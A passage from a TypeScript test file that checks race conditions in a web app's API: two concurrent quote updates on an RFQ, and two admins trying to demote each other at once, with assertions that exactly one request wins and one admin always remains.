    const [first, second] = await Promise.all([
      move(id, { status: 'quoted', amount: 100, validUntil: '2099-01-01' }),
      move(id, { status: 'quoted', amount: 200, validUntil: '2099-01-01' }),
    ]);
    expect([first.status, second.status].sort()).toEqual([200, 409]);
    const audit = await json<AuditEntry[]>(
      api.app.request(`/api/admin/audit?entityType=rfq&entityId=${id}&action=rfq.status`, withCookies(api.admin)),
    );
    expect(audit.filter((entry) => entry.after?.status === 'quoted')).toHaveLength(1);
  });

  describe('two admins demoting each other at once', () => {
    const fresh = ownDatabase(api.kind);

    it('lets one of them win, and the system keeps an admin, every time', async () => {
      for (let round = 0; round < 5; round += 1) {
        const { answers } = await twoAdminsAtOnce(fresh, 'role', { role: 'buyer' });
        expect(answers.map((answer) => answer.status).sort(), `round ${round}`).toEqual([200, 403]);
        const loser = answers.find((answer) => answer.status === 403)!;
        expect(await loser.json()).toEqual({ error: 'Forbidden' });
        const admins = await fresh.db.select({ id: users.id }).from(users).where(eq(users.role, 'admin'));
        expect(admins, `round ${round}`).toHaveLength(1);
        // The one left cannot be demoted by anyone: there is nobody else to do it.
        await fresh.db.update(users).set({ role: 'buyer' }).where(eq(users.role, 'admin'));
      }
    });
  });
});
